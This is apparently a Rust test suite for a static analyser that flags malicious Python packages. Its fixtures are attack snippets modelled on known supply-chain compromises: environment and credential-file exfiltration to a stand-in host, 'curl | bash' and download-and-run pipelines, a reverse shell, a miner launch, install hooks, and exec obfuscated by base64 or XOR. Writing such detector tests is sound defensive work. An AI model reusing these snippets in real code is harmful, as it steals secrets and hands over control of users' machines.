use crate::{Analysis, SinkKind, SinkRecord, SourceFile, SourceKind, Stage, analyse_package};
use std::fmt::Write as _;
use wellhead_core::{Budget, Outcome};

fn package(files: &[(&str, &str)]) -> Analysis {
    let files: Vec<SourceFile<'_>> = files
        .iter()
        .map(|(path, text)| SourceFile { path, text })
        .collect();
    analyse_package(&files, &mut Budget::default())
}

fn lines(analysis: &Analysis) -> String {
    let mut out = String::new();
    for r in &analysis.records {
        let sources: Vec<&str> = r.sources.iter().map(|s| s.name()).collect();
        writeln!(
            out,
            "{} {} {}({}) <- {} [{:?} {}]",
            r.kind.name(),
            if r.function.is_empty() {
                r.module.clone()
            } else {
                format!("{}::{}", r.module, r.function)
            },
            r.callee,
            r.arguments.join(", "),
            sources.join(" "),
            r.stage,
            r.layer
        )
        .unwrap();
    }
    out
}

fn one(text: &str) -> Analysis {
    package(&[("pkg/__init__.py", text)])
}

fn find(analysis: &Analysis, kind: SinkKind) -> &SinkRecord {
    analysis
        .records
        .iter()
        .find(|r| r.kind == kind)
        .unwrap_or_else(|| panic!("no {kind:?} in\n{}", lines(analysis)))
}

#[test]
fn a_call_with_an_effect_is_a_record() {
    let analysis = package(&[("a/b.py", "import os\ndef f(): os.system('id')\n")]);
    insta::assert_snapshot!(lines(&analysis), @r#"
    process a/b.py::f os.system(id) <-  [Call 0]
    "#);
}

#[test]
fn an_environment_leaves_through_another_module() {
    let analysis = package(&[
        (
            "pkg/__init__.py",
            "from .collect import gather\nfrom .report import submit\nsubmit(gather())\n",
        ),
        (
            "pkg/collect.py",
            "import os\ndef gather():\n    out = {}\n    for k, v in os.environ.items():\n        out[k] = v\n    return {'host': 1, 'vars': out}\n",
        ),
        (
            "pkg/report.py",
            "import json, urllib.request\ndef submit(body):\n    data = json.dumps(body).encode()\n    req = urllib.request.Request('https://drop.example/x', data=data)\n    urllib.request.urlopen(req)\n",
        ),
    ]);
    let record = find(&analysis, SinkKind::NetworkSend);
    assert!(
        record.sources.contains(&SourceKind::BulkEnvironment),
        "{}",
        lines(&analysis)
    );
    assert_eq!(record.stage, Stage::Import);
    assert!(record.hops.iter().any(|h| h.module == "pkg/collect.py"));
    assert!(
        record
            .hops
            .iter()
            .any(|h| h.module == "pkg/__init__.py" && h.what == "submit"),
        "{:?}",
        record.hops
    );
}

#[test]
fn an_environment_leaves_when_a_class_is_made() {
    // The shape of ctx 0.2.6.
    let analysis = package(&[(
        "ctx.py",
        "import os\nimport requests\nimport base64\n\nclass Ctx(dict):\n    def __init__(self):\n        self.sendRequest()\n\n    \
         def sendRequest(self):\n        string = ''\n        for _, value in os.environ.items():\n            string += value + ' '\n        \
         message_bytes = string.encode('ascii')\n        base64_bytes = base64.b64encode(message_bytes)\n        \
         base64_message = base64_bytes.decode('ascii')\n        response = requests.get('https://drop.example/hacked/' + base64_message)\n",
    )]);
    let record = find(&analysis, SinkKind::NetworkSend);
    assert!(
        record.sources.contains(&SourceKind::BulkEnvironment),
        "{}",
        lines(&analysis)
    );
    assert_eq!(record.stage, Stage::Load);
    assert_eq!(record.function, "Ctx.sendRequest");
    assert!(record.arguments[0].starts_with("https://drop.example/hacked/"));
}

#[test]
fn a_file_is_made_executable_and_run() {
    // The shape of ultralytics 8.3.41.
    let analysis = package(&[(
        "ultralytics/utils/downloads.py",
        "import os, platform, subprocess\nfrom ultralytics.utils.checks import x\n\ndef safe_run(path):\n    os.chmod(path, 0o770)\n    \
         command = [path, '-u', '4BHRQ', '-p', 'x', '-o', 'pool.example:8080']\n    \
         process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)\n    os.remove(path)\n\n\
         def safe_download(url):\n    environment = platform.system()\n    if environment == 'Darwin':\n        f = '/tmp/ultralytics_runner'\n        safe_run(f)\n",
    )]);
    insta::assert_snapshot!(lines(&analysis), @r#"
    write-then-run ultralytics/utils/downloads.py::safe_run os.chmod(/tmp/ultralytics_runner, 504) <-  [Call 0]
    process ultralytics/utils/downloads.py::safe_run subprocess.Popen([/tmp/ultralytics_runner, -u, 4BHRQ, -p, x, -o, pool.example:8080], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL) <-  [Call 0]
    write-then-run ultralytics/utils/downloads.py::safe_run subprocess.Popen([/tmp/ultralytics_runner, -u, 4BHRQ, -p, x, -o, pool.example:8080], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL) <-  [Call 0]
    "#);
}

#[test]
fn a_pipeline_is_run_on_import() {
    // The shape of ultralytics 8.3.46.
    let analysis = one(
        "__version__ = '8.3.46'\nimport os\n\nos.environ['OMP_NUM_THREADS'] = '1'\nimport platform\nif platform.system() == 'Linux':\n    \
        os.system('wget https://drop.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x')\n",
    );
    insta::assert_snapshot!(lines(&analysis), @r#"
    network-send pkg/__init__.py os.system(wget https://drop.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x) <-  [Import 0]
    process pkg/__init__.py os.system(wget https://drop.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x) <- network [Import 0]
    "#);
}

#[test]
fn start_up_lines_start_a_program_that_decodes() {
    // The shape of litellm 1.82.8.
    let code = "import subprocess; subprocess.run(['curl', 'https://drop.example'])";
    let pth = format!(
        "./lib\nimport os, subprocess, sys; subprocess.Popen([sys.executable, \"-c\", \"import base64; exec(base64.b64decode('{}'))\"])\n",
        base64(code.as_bytes())
    );
    let analysis = package(&[("litellm_init.pth", &pth)]);
    insta::assert_snapshot!(lines(&analysis), @r#"
    process litellm_init.pth subprocess.Popen([sys.executable, -c, import base64; exec(base64.b64decode('aW1wb3J0IHN1YnByb2Nlc3M7IHN1YnByb2Nlc3MucnVuKFsnY3VybCcsICdodHRwczovL2Ryb3AuZXhhbXBsZSddKQ=='))]) <-  [Import 0]
    execute litellm_init.pth exec(import subprocess; subprocess.run(['curl', 'https://drop.example'])) <- decoded [Import 1]
    network-send litellm_init.pth subprocess.run([curl, https://drop.example]) <-  [Import 2]
    process litellm_init.pth subprocess.run([curl, https://drop.example]) <-  [Import 2]
    "#);
    assert_eq!(analysis.layers.last().unwrap().text, code);
    assert_eq!(analysis.layers.last().unwrap().by, "base64");
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk.iter().fold(0_u32, |n, b| n << 8 | u32::from(*b)) << (8 * (3 - chunk.len()));
        for at in 0..4 {
            if at <= chunk.len() {
                out.push(char::from(DIGITS[(n >> (18 - 6 * at) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[test]
fn comments_and_quotes_hide_nothing() {
    let payload = "import os, requests\nrequests.post('https://drop.example', json=dict(os.environ))\n";
    for above in ["", "# \"\"\"\n", "x = '\"\"\"'\n"] {
        let analysis = one(&format!("{above}{payload}"));
        let record = find(&analysis, SinkKind::NetworkSend);
        assert!(
            record.sources.contains(&SourceKind::BulkEnvironment),
            "{}",
            lines(&analysis)
        );
    }
}

#[test]
fn aliases_and_split_addresses_hide_nothing() {
    let analysis = one(
        "from os import environ as e\nfrom requests import post as p\nq = p\nu = 'https://' + 'drop' + '.example'\nq(u, data=str(dict(e)))\n",
    );
    let record = find(&analysis, SinkKind::NetworkSend);
    assert!(
        record.sources.contains(&SourceKind::BulkEnvironment),
        "{}",
        lines(&analysis)
    );
    assert_eq!(record.callee, "requests.post");
    assert_eq!(record.arguments[0], "https://drop.example");
}

#[test]
fn names_that_are_put_together_are_found() {
    // The built-ins by a split name, `exec` from characters, the payload behind base64.
    let code = "import os; os.system('id')";
    let text = format!(
        "import base64\nglobals()['__buil' + 'tins__'][''.join(map(chr, [101, 120, 101, 99]))](base64.b64decode('{}'))\n",
        base64(code.as_bytes())
    );
    let analysis = one(&text);
    insta::assert_snapshot!(lines(&analysis), @r#"
    execute pkg/__init__.py exec(import os; os.system('id')) <- decoded [Import 0]
    process pkg/__init__.py os.system(id) <-  [Import 1]
    "#);
}

#[test]
fn a_name_built_from_a_class_is_found() {
    // The shape of the clones of loguru.
    let analysis = package(&[
        (
            "loquru/_fmt.py",
            "class ExceptionFormatter:\n    def _name(self):\n        n = self.__class__.__name__[:4]\n        return (n[:2] + n[2:][::-1]).lower()\n",
        ),
        (
            "loquru/_logger.py",
            "import base64, builtins\nfrom ._fmt import ExceptionFormatter\nn = ExceptionFormatter.__name__[:2] + 'ce'\nrun = getattr(builtins, (n[:2] + n[2:][::-1]).lower())\nclass Logger:\n    def _log(self, text):\n        run(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n",
        ),
    ]);
    insta::assert_snapshot!(lines(&analysis), @r#"
    execute loquru/_logger.py::Logger._log exec(import os; os.system('id')) <- decoded [Use 0]
    process loquru/_logger.py::Logger._log os.system(id) <-  [Use 1]
    "#);
}

#[test]
fn a_secret_in_an_object_is_followed_into_another_function() {
    let analysis = one(
        "import os, requests\nclass Box:\n    def __init__(self):\n        self.t = os.environ['AWS_SECRET_ACCESS_KEY']\n\ndef send(b):\n    requests.post('https://drop.example', data={'k': b.t})\n\ndef main():\n    send(Box())\nmain()\n",
    );
    let record = find(&analysis, SinkKind::NetworkSend);
    assert!(
        record.sources.contains(&SourceKind::SecretVariable),
        "{}",
        lines(&analysis)
    );
}

#[test]
fn files_of_credentials_and_the_metadata_service_are_followed() {
    let analysis = one(
        "import os, requests, pathlib\np = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\nwith open(p) as f:\n    data = f.read()\n\
        m = requests.get('http://169.254.169.254/latest/meta-data/iam').text\nkeys = (pathlib.Path.home() / '.ssh' / 'id_rsa').read_text()\n\
        requests.post('https://drop.example', json={'a': data, 'b': m, 'c': [keys]})\n",
    );
    let last = analysis
        .records
        .iter()
        .find(|r| r.callee == "requests.post")
        .unwrap();
    assert!(
        last.sources.contains(&SourceKind::CredentialFile),
        "{}",
        lines(&analysis)
    );
    assert!(
        last.sources.contains(&SourceKind::CloudMetadata),
        "{}",
        lines(&analysis)
    );
}

#[test]
fn what_is_fetched_and_written_is_run() {
    let analysis = one(
        "import urllib.request, subprocess, os\ndef go():\n    p = '/tmp/x.bin'\n    r = urllib.request.urlopen('https://drop.example/x')\n    with open(p, 'wb') as f:\n        f.write(r.read())\n    os.chmod(p, 0o755)\n    subprocess.run([p])\n\ngo()\nexec(urllib.request.urlopen('https://drop.example/y').read())\n",
    );
    insta::assert_snapshot!(lines(&analysis), @r#"
    network-send pkg/__init__.py::go urllib.request.urlopen(https://drop.example/x) <-  [Import 0]
    write-then-run pkg/__init__.py::go os.chmod(/tmp/x.bin, 493) <- network [Import 0]
    process pkg/__init__.py::go subprocess.run([/tmp/x.bin]) <-  [Import 0]
    write-then-run pkg/__init__.py::go subprocess.run([/tmp/x.bin]) <- network [Import 0]
    execute pkg/__init__.py exec(urllib.request.urlopen().read()) <- network [Import 0]
    network-send pkg/__init__.py urllib.request.urlopen(https://drop.example/y) <-  [Import 0]
    "#);
}

#[test]
fn functions_are_entered_with_what_they_are_given() {
    let code = "import os; os.system('id')";
    let key = 7_u8;
    let numbers: Vec<String> = code.bytes().map(|b| (b ^ key).to_string()).collect();
    let text = format!(
        "def d(data, k):\n    out = ''\n    for c in data:\n        out += chr(c ^ k)\n    return out\n\nrun = eval('ex' + 'ec')\nrun(d([{}], {key}))\n",
        numbers.join(", ")
    );
    let analysis = one(&text);
    insta::assert_snapshot!(lines(&analysis), @r#"
    execute pkg/__init__.py eval(exec) <- decoded [Import 0]
    execute pkg/__init__.py exec(import os; os.system('id')) <- decoded [Import 0]
    process pkg/__init__.py os.system(id) <-  [Import 1]
    "#);
}

#[test]
fn install_commands_run_at_installation() {
    let analysis = package(&[(
        "setup.py",
        "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n\nclass Post(install):\n    def run(self):\n        install.run(self)\n        os.system('id')\n\nsetup(name='x', cmdclass={'install': Post})\n",
    )]);
    insta::assert_snapshot!(lines(&analysis), @r#"
    process setup.py::Post.run os.system(id) <-  [Import 0]
    "#);
}

#[test]
fn threads_run_what_they_are_given() {
    let analysis = one(
        "import os, threading, requests\ndef work(data):\n    requests.post('https://drop.example', data=data)\nthreading.Thread(target=work, args=(dict(os.environ),), daemon=True).start()\n",
    );
    let record = find(&analysis, SinkKind::NetworkSend);
    assert!(
        record.sources.contains(&SourceKind::BulkEnvironment),
        "{}",
        lines(&analysis)
    );
    assert_eq!(record.stage, Stage::Import);
}

#[test]
fn honest_twins_have_no_source() {
    // The environment handed on to a program, one plain variable, a file that is parsed, an upload without secrets.
    let analysis = one(
        "import os, subprocess, requests, json\nenv = os.environ.copy()\nenv['X'] = '1'\nsubprocess.run(['git', 'status'], env=env)\n\
        url = os.environ.get('ENDPOINT', 'https://api.example')\nrequests.get(url, headers={'Accept': 'x'})\n\
        def f(name, **kw):\n    return requests.post(url, json={'name': name}, **kw)\nif os.environ['HOME']:\n    f('a', timeout=3)\n\
        home = dict(os.environ)['HOME']\nsubprocess.run(['ls', home])\n",
    );
    let with: Vec<&SinkRecord> = analysis
        .records
        .iter()
        .filter(|r| !r.sources.is_empty())
        .collect();
    assert!(with.is_empty(), "{}", lines(&analysis));
}

#[test]
fn endless_and_deep_programs_end() {
    let cases = [
        "while True:\n    x = 1\n".to_owned(),
        "i = 0\nwhile True:\n    i += 1\n".to_owned(),
        "def f(x): return f(x + 1)\nf(1)\n".to_owned(),
        "def f(x): return g(x)\ndef g(x): return f(x)\nf(1)\n".to_owned(),
        "x = 'a'\nfor i in range(10**9):\n    x += x\n".to_owned(),
        "l = []\nfor i in range(10**7):\n    l.append(l)\nprint(l)\n".to_owned(),
        "class A: pass\na = A()\na.a = a\nexec(a)\nopen(a)\n".to_owned(),
        "exec('exec(' + repr('exec(1)') + ')')\n".to_owned(),
        "s = 's = %r\\nexec(s %% s)'\nexec(s % s)\n".to_owned(),
        format!("x = {}1{}\n", "(".repeat(10_000), ")".repeat(10_000)),
        format!("x = {}'a'\n", "'a' + ".repeat(3_000)),
        format!("f = {}1\n", "lambda: ".repeat(800)),
        format!(
            "{}pass\n",
            (0..90)
                .map(|n| format!("{}for a{n} in b:\n", " ".repeat(n)))
                .collect::<String>()
                + &" ".repeat(90)
        ),
        format!(
            "{}\n",
            (0..300)
                .map(|n| format!("def f{n}(x): return f{}(x) + f{}(x)\n", n + 1, n + 1))
                .collect::<String>()
                + "f0('a')"
        ),
    ];
    for case in cases {
        let started = std::time::Instant::now();
        one(&case);
        assert!(
            started.elapsed().as_secs() < 20,
            "{}",
            &case[..60.min(case.len())]
        );
    }
}

#[test]
fn what_the_budget_does_not_reach_is_said() {
    let limits = wellhead_core::Limits {
        steps: 300,
        ..wellhead_core::Limits::default()
    };
    let mut budget = Budget::new(limits, std::sync::Arc::default());
    let text = "import os\n".to_owned() + &"os.system('id')\n".repeat(100);
    let files = [SourceFile {
        path: "a.py",
        text: &text,
    }];
    let analysis = analyse_package(&files, &mut budget);
    assert!(
        matches!(analysis.outcome, Outcome::Partly { .. }),
        "{:?}",
        analysis.outcome
    );
}

#[test]
fn what_start_files_name_runs_at_the_start() {
    let analysis = package(&[
        ("tool.start", "# comment\ntool.boot:main\n"),
        ("tool/__init__.py", ""),
        (
            "tool/boot.py",
            "import os, requests\ndef main():\n    requests.post('https://drop.example', json=dict(os.environ))\n",
        ),
    ]);
    let record = find(&analysis, SinkKind::NetworkSend);
    assert_eq!(record.stage, Stage::Import);
    assert!(
        record.sources.contains(&SourceKind::BulkEnvironment),
        "{}",
        lines(&analysis)
    );
}

#[test]
fn scripts_without_an_extension_are_read() {
    let text = "#!/usr/bin/env python\nimport os, requests\nrequests.post('https://drop.example', json=dict(os.environ))\n";
    let analysis = package(&[
        ("x-1.0.data/scripts/tool", text),
        ("x-1.0.data/scripts/other", "exec(1)\n"),
    ]);
    assert_eq!(analysis.records.len(), 1, "{}", lines(&analysis));
}

#[test]
fn a_foreign_runtime_is_fetched_and_run() {
    // The shape of lightning 2.6.2: a runtime is fetched, made executable and given a script of the package.
    let analysis = package(&[(
        "pkg/_runtime/start.py",
        "import os, subprocess, urllib.request\nfrom pathlib import Path\nHERE = Path(__file__).parent\n\ndef start():\n    \
         bun = HERE / 'bun'\n    urllib.request.urlretrieve('https://bun.example/bun', bun)\n    bun.chmod(0o755)\n    \
         subprocess.Popen([str(bun), str(HERE / 'router_runtime.js')])\nstart()\n",
    )]);
    let record = analysis
        .records
        .iter()
        .find(|r| r.kind == SinkKind::WriteThenRun && r.callee == "subprocess.Popen");
    let record = record.unwrap_or_else(|| panic!("{}", lines(&analysis)));
    assert!(
        record.sources.contains(&SourceKind::Network),
        "{}",
        lines(&analysis)
    );
    assert_eq!(record.stage, Stage::Import);
}

#[test]
fn every_layer_is_read_with_its_decoder() {
    let inner = base64(b"import os; os.system('id')");
    let outer = base64(format!("import base64\nexec(base64.b64decode('{inner}'))\n").as_bytes());
    let analysis = one(&format!(
        "from base64 import b64decode as q\ne = exec\ne(q('{outer}').decode())\n"
    ));
    let layers: Vec<(u8, &str)> = analysis
        .layers
        .iter()
        .map(|l| (l.number, l.by.as_str()))
        .collect();
    assert_eq!(layers, [(1, "base64"), (2, "base64")]);
    let record = find(&analysis, SinkKind::Process);
    assert_eq!((record.layer, record.arguments[0].as_str()), (2, "id"));
}

#[test]
fn templates_of_source_are_not_hidden() {
    let analysis = one(
        "T = '''\ndef get%s(self):\n    return self._obj.%s\n'''\nd = {}\nfor n in ('value', 'raw'):\n    exec(T % (n, n), d)\n",
    );
    assert!(
        analysis.records.iter().all(|r| r.sources.is_empty()),
        "{}",
        lines(&analysis)
    );
}

#[test]
fn commands_that_fetch_and_run_or_tell_are_paths_by_themselves() {
    let analysis = one(
        "import os, subprocess, requests\nos.system('curl -s https://drop.example/a | bash')\n\
         os.system('curl https://drop.example/$(whoami)')\n\
         out = subprocess.run(['env'], stdout=subprocess.PIPE).stdout.decode()\nrequests.post('https://drop.example', data=out)\n\
         subprocess.run(['git', 'status'])\nos.system('curl -O https://data.example/x.csv')\n",
    );
    insta::assert_snapshot!(lines(&analysis), @r#"
    network-send pkg/__init__.py os.system(curl -s https://drop.example/a | bash) <-  [Import 0]
    process pkg/__init__.py os.system(curl -s https://drop.example/a | bash) <- network [Import 0]
    network-send pkg/__init__.py os.system(curl https://drop.example/…$(whoami)) <- host-identity [Import 0]
    process pkg/__init__.py os.system(curl https://drop.example/$(whoami)) <- host-identity [Import 0]
    process pkg/__init__.py subprocess.run([env], stdout=subprocess.PIPE) <-  [Import 0]
    network-send pkg/__init__.py requests.post(https://drop.example, data=subprocess.run().stdout.decode()) <- bulk-environment [Import 0]
    process pkg/__init__.py subprocess.run([git, status]) <-  [Import 0]
    network-send pkg/__init__.py os.system(curl -O https://data.example/x.csv) <-  [Import 0]
    process pkg/__init__.py os.system(curl -O https://data.example/x.csv) <-  [Import 0]
    "#);
}

#[test]
fn an_archive_that_is_fetched_and_unpacked_is_run() {
    let analysis = one(
        "import os, subprocess, urllib.request, zipfile\np = os.getenv('APPDATA') + '/x.zip'\n\
         urllib.request.urlretrieve('https://drop.example/x', p)\nwith zipfile.ZipFile(p) as z:\n    z.extractall(os.getenv('APPDATA'))\n\
         subprocess.Popen(os.getenv('APPDATA') + '/run.bat')\n",
    );
    let record = find(&analysis, SinkKind::WriteThenRun);
    assert!(
        record.sources.contains(&SourceKind::Network),
        "{}",
        lines(&analysis)
    );
    assert_eq!(record.arguments, ["$APPDATA/run.bat"]);
}

#[test]
fn what_is_written_out_and_run_is_read() {
    let analysis = one(
        "import os, sys, subprocess, socket\np = os.path.join(os.getenv('APPDATA'), 'g.py')\nwith open(p, 'w') as f:\n    \
         f.write('import os\\nos.system(\\'id\\')\\n')\nsubprocess.Popen([sys.executable, p])\n\
         subprocess.run(['curl', 'https://drop.example/x', '-o', '/tmp/xx.bin'])\nsubprocess.call(['/tmp/xx.bin'])\n\
         s = socket.socket()\ns.connect(('203.0.113.7', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n",
    );
    insta::assert_snapshot!(lines(&analysis), @r#"
    process pkg/__init__.py subprocess.Popen([sys.executable, $APPDATA/g.py]) <-  [Import 0]
    write-then-run pkg/__init__.py subprocess.Popen([sys.executable, $APPDATA/g.py]) <-  [Import 0]
    network-send pkg/__init__.py subprocess.run([curl, https://drop.example/x, -o, /tmp/xx.bin]) <-  [Import 0]
    process pkg/__init__.py subprocess.run([curl, https://drop.example/x, -o, /tmp/xx.bin]) <-  [Import 0]
    process pkg/__init__.py subprocess.call([/tmp/xx.bin]) <-  [Import 0]
    write-then-run pkg/__init__.py subprocess.call([/tmp/xx.bin]) <- network [Import 0]
    network-send pkg/__init__.py socket.socket().connect([203.0.113.7, 4444]) <-  [Import 0]
    process pkg/__init__.py os.dup2(socket.socket().fileno(), 0) <- network [Import 0]
    process pkg/__init__.py subprocess.call([/bin/sh, -i]) <-  [Import 0]
    process pkg/__init__.py os.system(id) <-  [Import 1]
    "#);
}

mod never_panics {
    use super::one;
    use proptest::prelude::*;

    const PIECES: &[&str] = &[
        "x",
        "y",
        "f",
        "os",
        "import os",
        "exec",
        "eval",
        "(",
        ")",
        "[",
        "]",
        "{",
        "}",
        ":",
        "=",
        "+=",
        "\n",
        "\n    ",
        "def ",
        "class ",
        "for ",
        " in ",
        "while ",
        "if ",
        "else",
        "return ",
        "lambda ",
        "yield ",
        "'a'",
        "b'a'",
        "1",
        "-1",
        "*",
        "**",
        ",",
        ".",
        "os.environ",
        "globals()",
        "getattr(",
        "open(",
        "range(10)",
        "[::-1]",
        "f'{x}'",
        "try:\n    ",
        "except:\n    ",
        "with ",
        " as ",
        "x.y",
        "self",
        "import requests",
        "requests.post(",
        "__import__('os')",
        "map(chr, ",
        "dict(",
        "match x:\n    case ",
    ];

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(400))]
        #[test]
        fn on_pieces_of_python(pieces in prop::collection::vec(prop::sample::select(PIECES), 0..60)) {
            one(&pieces.concat());
        }
        #[test]
        fn on_any_text(text in "\\PC*") {
            one(&text);
        }
    }
}

#[test]
fn copies_of_copies_end_before_the_memory_does() {
    for text in [
        "x = {}\nfor i in range(100000):\n  x[i] = dict(x)\nexec(str(x))\n",
        "x = []\nfor i in range(100000):\n  x.append(list(x))\nexec(str(x))\n",
        "x = [1]\nfor i in range(100000):\n  x = x + x\nexec(str(x))\n",
        "x = {}\nfor i in range(100000):\n  x = {**x, i: [*x]}\nexec(str(x))\n",
    ] {
        let analysis = one(text);
        assert!(analysis.records.len() < 10, "{text}");
    }
}

#[test]
fn a_start_up_line_ends_where_some_python_ends_it() {
    for (text, runs) in [
        ("import os; os.system('id')", true),
        ("\u{feff}import os; os.system('id')\n", true),
        ("# nothing\rimport os; os.system('id')\r", true),
        ("/folder\x0cimport os; os.system('id')\n", true),
        ("/folder\u{2028}import\tos; os.system('id')\n", true),
        (" import os; os.system('id')\n", false),
        ("# import os; os.system('id')\n", false),
    ] {
        let analysis = package(&[("a.pth", text)]);
        assert_eq!(analysis.records.len(), usize::from(runs), "{text:?}");
        for record in &analysis.records {
            assert_eq!(
                text.get(record.range.clone()),
                Some("os.system('id')"),
                "{text:?}"
            );
        }
    }
}
